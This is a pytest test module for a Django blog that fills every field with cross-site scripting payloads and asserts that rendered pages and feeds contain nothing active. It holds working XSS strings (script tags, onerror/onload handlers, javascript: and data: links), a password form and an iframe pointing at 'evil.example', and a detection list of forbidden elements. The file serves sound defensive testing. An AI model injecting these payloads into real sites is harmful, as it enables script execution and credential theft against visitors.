"""Whatever is written into any field, nothing active reaches a page or a feed."""

import json

import html5lib
import pytest
from django.template.loader import render_to_string
from lxml import etree

from blog.models import SiteSettings
from tests.factories import (
    CrossPostFactory,
    ImageFactory,
    PostFactory,
    SeriesFactory,
    SourceFactory,
    TagFactory,
    UserFactory,
)

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>"
BODY = f"""{SCRIPT}

[link](javascript:alert(1)) ![picture](data:text/html,alert(1) "{SCRIPT.replace('"', "")}") <a href="vbscript:x">y</a>

<form action="/steal"><input name="password"><button formaction="//evil.example">go</button></form>
<style>body {{ display: none }}</style> <p style="position:fixed">x</p> <iframe src="//evil.example"></iframe>

# Heading {SCRIPT}

```{SCRIPT.replace("`", "")}
{SCRIPT}
```

[^1]: {SCRIPT}

Footnote[^1] ]]> <math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
"""
ATOM, CONTENT = "{http://www.w3.org/2005/Atom}", "{http://purl.org/rss/1.0/modules/content/}"
FORBIDDEN_ELEMENTS = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "base"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster", "cite", "data"}


@pytest.fixture
def hostile_site(db):
    SiteSettings(title=SCRIPT[:100], tagline=SCRIPT, description=SCRIPT, footer=SCRIPT).save()
    author = UserFactory(username="mallory", name=SCRIPT, bio=SCRIPT, website="https://example.com/")
    tag = TagFactory(name=SCRIPT, slug="tag", description=SCRIPT)
    series = SeriesFactory(name=SCRIPT, slug="series", description=SCRIPT)
    source = SourceFactory(name=SCRIPT, slug="source", description=SCRIPT, sentence_name=SCRIPT)
    cover = ImageFactory(alt=SCRIPT, caption=SCRIPT, credit=SCRIPT, original_name=SCRIPT)
    common = {"author": author, "title": SCRIPT, "excerpt": SCRIPT, "meta_title": SCRIPT, "meta_description": SCRIPT}
    body = f"{BODY}\n\n![{SCRIPT}]({cover.reference})\n"
    post = PostFactory(
        **common, body=body, slug="post", published=True, cover=cover, series=series, series_position=1, tags=[tag]
    )
    CrossPostFactory(post=post, source=source, url="https://example.com/a", is_canonical=True)
    CrossPostFactory(post=post, source=source, direction="to", url="https://example.com/b")
    CrossPostFactory(post=PostFactory(**common, published=True), source=source, place="bottom")
    PostFactory(**common, body=body, slug="page", published=True, page=True)
    return post


PAGES = [
    *("/", "/2014/11/post/", "/page/", "/tags/", "/tags/tag/", "/series/series/", "/authors/{author}/"),
    *("/sources/", "/sources/source/", "/2014/", "/2014/11/", "/archive/", "/no/such/page/"),
]
FEEDS = ["/feed/", "/feed.atom", "/feed.json", "/tags/tag/feed/", "/sources/source/feed.atom", "/sitemap.xml"]


def active_content(page: bytes) -> list[str]:
    found = []
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]
        is_own_script = tag == "script" and (element.get("src") or "").startswith("/static/") and not element.text
        if tag in FORBIDDEN_ELEMENTS and not (is_own_script or is_data_block(element)):
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            scheme = "".join(value.split()).lower()
            if str(name).startswith("on") or name == "style":
                found.append(f"{tag} {name}")
            if name in URL_ATTRIBUTES and scheme.startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"{tag} {name}={value}")
    return found


def is_data_block(element) -> bool:
    """Browsers do not run it; what stands in it must be JSON to its end all the same."""
    if dict(element.attrib) != {"type": "application/ld+json"}:
        return False
    return json.loads(element.text)["@context"] == "https://schema.org" and not set("<>&") & set(element.text)


def test_walker_finds_what_it_looks_for():
    assert len(active_content(BODY.encode())) > 10
    assert active_content(b'<script type="application/ld+json">{"@context": "https://schema.org"}</script>') == []
    block = b'<script type="application/ld+json" src="//x">{"@context": "https://schema.org"}</script>'
    assert active_content(block) == ["<script>"]


@pytest.mark.parametrize("path", PAGES)
def test_page_has_nothing_active_when_every_field_is_hostile(path, hostile_site, client):
    response = client.get(path.format(author=hostile_site.author.slug))
    assert response.status_code == (404 if "no/such" in path else 200)
    # What readers set in the head of every page, and not one control more.
    tools = "".join(render_to_string(f"blog/{name}.html") for name in ("_search_form", "_theme"))
    assert active_content(response.content) == active_content(tools.encode())
    if "no/such" not in path:
        assert b"&lt;script&gt;alert(1)" in response.content


@pytest.mark.parametrize("path", FEEDS)
def test_feed_has_nothing_active_when_every_field_is_hostile(path, hostile_site, client):
    response = client.get(path)
    assert response.status_code == 200
    if response.headers["Content-Type"].startswith("application/feed+json"):
        feed = response.json()
        contents = [item["content_html"] for item in feed["items"]]
    else:
        root = etree.fromstring(response.content)
        # What the formats define as HTML; titles and the feed's own description are plain text.
        tags = {f"{ATOM}content", f"{ATOM}summary", "description", f"{CONTENT}encoded"}
        contents = [e.text or "" for item in root.iter("item", f"{ATOM}entry") for e in item if e.tag in tags]
    assert [active_content(html.encode()) for html in contents if active_content(html.encode())] == []
    assert path == "/sitemap.xml" or any("&lt;script&gt;" in html for html in contents)
